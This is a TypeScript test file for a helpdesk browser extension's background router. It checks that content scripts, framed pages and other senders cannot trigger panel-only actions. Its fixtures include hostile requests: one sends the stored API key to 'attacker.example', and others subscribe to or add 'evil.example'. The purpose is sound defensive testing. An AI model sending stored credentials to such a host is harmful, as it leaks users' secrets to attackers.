import { beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing';
import { trackPanelPort } from '@/utils/background/panel-presence';
import { routeMessage } from '@/utils/background/router';
import { classifySender } from '@/utils/background/senders';
import { PanelRequest } from '@/utils/messaging/protocol';
import { saveApiKey } from '@/utils/settings-store';

// Sender checks for every panel-only message: a content script (which a compromised or hostile page could in
// theory drive) and senders outside the extension get no answer and cause no effect — no tab message, no script
// injection, no network request (a model or provider call), no change to declared domains.
const EXT = 'chrome-extension://test-extension-id';
const panel = { id: 'test-extension-id', url: `${EXT}/sidepanel.html?tabId=7` };
const contentScript = {
  id: 'test-extension-id',
  url: 'https://acme.zendesk.com/agent/tickets/1',
  tab: { id: 7, url: 'https://acme.zendesk.com/agent/tickets/1' },
  frameId: 0,
};

/** One well-formed instance of every PanelRequest type (the test fails when a type is added without one). */
const EXAMPLES: Record<PanelRequest['type'], PanelRequest> = {
  'ticket/read': { type: 'ticket/read', tabId: 7 },
  'knowledge/suggest': { type: 'knowledge/suggest', tabId: 7, ticketKey: 'zendesk:acme.zendesk.com:1' },
  'ticket/read-page': { type: 'ticket/read-page', tabId: 7 },
  'ticket/use-selection': { type: 'ticket/use-selection', tabId: 7 },
  'reply/insert': { type: 'reply/insert', tabId: 7, ticketKey: 'zendesk:acme.zendesk.com:1', text: 'Hi' },
  'reply/undo-insert': { type: 'reply/undo-insert', tabId: 7, ticketKey: 'zendesk:acme.zendesk.com:1' },
  // The most sensitive shape: it would send the stored key to the URL named in the message.
  'provider/test': { type: 'provider/test', baseURL: 'https://attacker.example/v1', useStoredKey: true },
  'domains/add': { type: 'domains/add', origin: 'https://evil.example', helpdesk: 'zendesk' },
  'domains/remove': { type: 'domains/remove', origin: 'https://support.acme.example' },
  'domains/dismiss-revoked': { type: 'domains/dismiss-revoked' },
  'page/diagnose': { type: 'page/diagnose', tabId: 7 },
  'payload/preview': {
    type: 'payload/preview',
    tabId: 7,
    ticketKey: 'zendesk:acme.zendesk.com:1',
    kind: 'draft',
  },
  'data/retention-set': { type: 'data/retention-set', period: '1d' },
  'data/export': { type: 'data/export' },
  'data/delete-all': { type: 'data/delete-all', confirmation: 'DELETE' },
  // Would make the background fetch an arbitrary HTTPS URL and store what it finds.
  'packs/subscribe': { type: 'packs/subscribe', url: 'https://evil.example/pack.json' },
  'packs/refresh': { type: 'packs/refresh', url: 'https://packs.acme.example/support.json' },
  'packs/set-interval': {
    type: 'packs/set-interval',
    url: 'https://packs.acme.example/support.json',
    intervalHours: 1,
  },
};

beforeEach(() => {
  fakeBrowser.reset();
  vi.restoreAllMocks();
});

describe('router sender checks', () => {
  it('the examples cover every PanelRequest type and are well formed', () => {
    const types = PanelRequest.options.map((option) => option.shape.type.value).sort();
    expect(Object.keys(EXAMPLES).sort()).toEqual(types);
    for (const example of Object.values(EXAMPLES)) expect(PanelRequest.safeParse(example).success).toBe(true);
  });

  const foreignSenders = {
    'a content script (top frame)': contentScript,
    'a content script in a sub-frame': { ...contentScript, frameId: 2 },
    'another extension': { ...panel, id: 'another-extension' },
    'a web page (no extension id)': { url: 'https://evil.example/', tab: { id: 7 } },
    'an extension-id sender with a web URL and no tab': {
      id: 'test-extension-id',
      url: 'https://evil.example/',
    },
  };

  for (const [label, sender] of Object.entries(foreignSenders)) {
    it(`refuses every panel-only message from ${label}, with no effect`, async () => {
      // A panel is open: a content-script ticket change would be acted on, panel requests must not be.
      trackPanelPort({ name: 'panel', onDisconnect: { addListener() {} } } as never);
      const sendMessage = vi.spyOn(fakeBrowser.tabs, 'sendMessage');
      const executeScript = vi.spyOn(fakeBrowser.scripting, 'executeScript');
      const fetchSpy = vi.spyOn(globalThis, 'fetch');
      const permissions = vi.spyOn(fakeBrowser.permissions, 'request');
      for (const message of Object.values(EXAMPLES)) {
        expect(await routeMessage(message, sender), message.type).toBeUndefined();
      }
      expect(sendMessage).not.toHaveBeenCalled();
      expect(executeScript).not.toHaveBeenCalled();
      expect(fetchSpy).not.toHaveBeenCalled();
      expect(permissions).not.toHaveBeenCalled();
      expect(await fakeBrowser.storage.local.get(null)).toEqual({});
    });
  }

  it('classifies only extension-origin URLs of this extension as extension pages', () => {
    const origin = EXT;
    expect(classifySender(panel, 'test-extension-id', origin)).toBe('extension-page');
    expect(classifySender(contentScript, 'test-extension-id', origin)).toBe('content-script');
    // A look-alike prefix is not the extension origin.
    expect(
      classifySender(
        { id: 'test-extension-id', url: `${EXT}.evil.example/x`, tab: { id: 1 } },
        'test-extension-id',
        origin,
      ),
    ).toBe('content-script');
    expect(classifySender({ url: `${EXT}/sidepanel.html` }, 'test-extension-id', origin)).toBe('foreign');
  });
});

describe('provider/test: which key is tested', () => {
  const STORED = 'sk-stored-0123456789abcd';

  /** Answers GET /models and records the Authorization header of every request. */
  function stubModelList(): string[] {
    const seen: string[] = [];
    vi.spyOn(globalThis, 'fetch').mockImplementation(async (_input, init) => {
      seen.push(new Headers(init?.headers).get('authorization') ?? '(none)');
      return new Response(JSON.stringify({ object: 'list', data: [{ id: 'm' }] }), {
        headers: { 'content-type': 'application/json' },
      });
    });
    return seen;
  }

  const request = { type: 'provider/test', baseURL: 'https://llm.example.com/v1', model: 'm' } as const;

  it('useStoredKey: the background reads the stored key itself', async () => {
    await saveApiKey(STORED);
    const seen = stubModelList();
    expect(await routeMessage({ ...request, useStoredKey: true }, panel)).toMatchObject({ ok: true });
    expect(seen).toEqual([`Bearer ${STORED}`]);
  });

  it('a typed key is tested as typed, and no key field and no flag means no key', async () => {
    await saveApiKey(STORED);
    const seen = stubModelList();
    await routeMessage({ ...request, apiKey: 'sk-typed' }, panel);
    await routeMessage(request, panel);
    expect(seen).toHaveLength(2);
    expect(seen[0]).toBe('Bearer sk-typed');
    expect(seen[1]).not.toContain(STORED);
  });

  it('refuses a typed key together with useStoredKey, and useStoredKey from a framed extension page', async () => {
    await saveApiKey(STORED);
    const seen = stubModelList();
    expect(await routeMessage({ ...request, apiKey: 'sk-typed', useStoredKey: true }, panel)).toEqual({
      ok: false,
      code: 'bad-request',
      message: 'Malformed request.',
    });
    const framed = { ...panel, frameId: 3, tab: { id: 7, url: 'https://evil.example/' } };
    expect(await routeMessage({ ...request, useStoredKey: true }, framed)).toBeUndefined();
    expect(seen).toEqual([]);
  });
});

describe('packs/*: only our own top-level pages may make the background fetch a pack', () => {
  it('refuses an extension page framed inside a web tab, without fetching', async () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const framed = { ...panel, frameId: 3, tab: { id: 7, url: 'https://evil.example/' } };
    for (const type of ['packs/subscribe', 'packs/refresh', 'packs/set-interval'] as const)
      expect(await routeMessage(EXAMPLES[type], framed), type).toBeUndefined();
    expect(fetchSpy).not.toHaveBeenCalled();
  });
});
